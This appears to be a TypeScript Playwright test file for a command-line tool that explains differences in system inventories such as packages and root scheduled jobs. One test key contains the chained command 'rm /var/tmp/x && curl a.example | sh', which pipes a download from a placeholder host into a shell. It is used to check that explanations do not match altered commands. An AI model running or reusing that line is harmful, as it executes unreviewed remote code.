import { readFileSync, writeFileSync } from 'node:fs';
import { expect, test } from '@playwright/test';
import { differences } from '../../../reports/cli/differences.js';
import { readDraft, writeDraft } from '../../../helpers/inventory/draft.js';
import { explain } from '../../../helpers/inventory/explain.js';
import { addExplanation, oneByOne, readExplanations } from '../../../helpers/inventory/own-explanations.js';

test('an explanation is added to the list and replaces the existing one for the same item', ({}, info) => {
  const file = info.outputPath('explanations.json');

  addExplanation(file, { what: 'packages/package foo', why: 'replaced by bar', who: 'jsfan' });
  addExplanation(file, { what: 'packages/package foo', why: 'not needed any more', sometimes: true });

  expect(readExplanations(file)).toEqual([
    { what: 'packages/package foo', why: 'not needed any more', sometimes: true },
  ]);
  expect(readFileSync(file, 'utf8')).toMatch(/\n$/);
});

test('the accepted part of a draft explains the differences it was made from, and nothing else', ({}, info) => {
  const file = info.outputPath('draft.json');
  const difference = (key: string, kind: 'missing' | 'changed') =>
    ({ area: 'schedule', key, facet: 'is', kind, old: 'x', new: undefined, weight: 1, sources: [] }) as never;
  const named = 'job of root: rm /var/tmp/*';
  writeDraft(file, [{ cause: 'x', members: [difference(named, 'missing')] } as never]);
  writeFileSync(file, readFileSync(file, 'utf8').replace('"why": ""', '"why": "nobody needs it"'));
  const explanations = oneByOne(readDraft(file));
  const unexplained = (key: string, kind: 'missing' | 'changed'): number =>
    explain([difference(key, kind)], explanations, [], { gate: undefined, today: '2012-06-22', items: [] }).unexplained
      .length;

  expect(unexplained(named, 'missing')).toBe(0);
  expect(unexplained(named, 'changed')).toBe(1);
  expect(unexplained('job of root: rm /var/tmp/x && curl a.example | sh', 'missing')).toBe(1);
});

test('"npm run differences" prints its usage with --help, and refuses an unknown gate', async () => {
  const said: string[] = [];
  const say = (line: string) => void said.push(line);

  expect(await differences(['--help'], say)).toBe(0);
  expect(said.join('\n')).toMatch(/--explain AREA\/KEY "why"[^]*--draft FILE[^]*--accept FILE/);
  expect(await differences(['--gate', 'nowhere'], say)).toBe(3);
});
